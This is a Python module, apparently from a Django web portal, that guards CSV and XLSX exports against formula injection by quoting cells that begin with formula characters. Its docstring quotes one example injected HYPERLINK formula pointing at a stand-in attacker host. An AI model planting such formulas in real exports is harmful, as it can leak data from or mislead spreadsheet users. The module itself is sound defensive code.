"""The one rule for every cell the portal writes into a spreadsheet (CSV or XLSX): never a formula.

A name such as `=HYPERLINK("http://evil.example/?x","X")` is text in the portal, but Excel and
LibreOffice run a CSV cell that starts with "=", "+", "-" or "@" (or a tab, a line break, a null
that hides the lead) as a formula, and openpyxl stores such a string in an XLSX as one. Following
OWASP (and ASVS 1.2.10), such a cell gets a leading single quote and so stays text. Numbers stay
numbers: only strings can carry a formula.

Every CSV or XLSX writer in the apps goes through `safe_cell`: `csv_writer` for the csv module,
`SafeCellsResourceMixin` for django-import-export resources.
"""

import csv

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")


def safe_cell(value):
    """`value` as a spreadsheet may hold it: a string that would start a formula gets a leading "'"."""
    if isinstance(value, str) and value.startswith(FORMULA_LEADS):
        return "'" + value
    return value


def safe_row(values):
    return [safe_cell(value) for value in values]


class SafeCsvWriter:
    """csv.writer's writerow/writerows, each cell through `safe_cell` first."""

    def __init__(self, out, **kwargs):
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row):
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_writer(out, **kwargs):
    """A csv.writer on `out` whose every cell is neutralised; use it instead of csv.writer."""
    return SafeCsvWriter(out, **kwargs)


class SafeCellsResourceMixin:
    """Put first in a django-import-export resource's bases: its headers and cells, in every format.

    (import-export's own IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT is not used: it only strips a
    leading "=", and turns every cell into a string, numbers included.)
    """

    def get_export_headers(self, *args, **kwargs):
        return safe_row(super().get_export_headers(*args, **kwargs))

    def export_resource(self, *args, **kwargs):
        return safe_row(super().export_resource(*args, **kwargs))
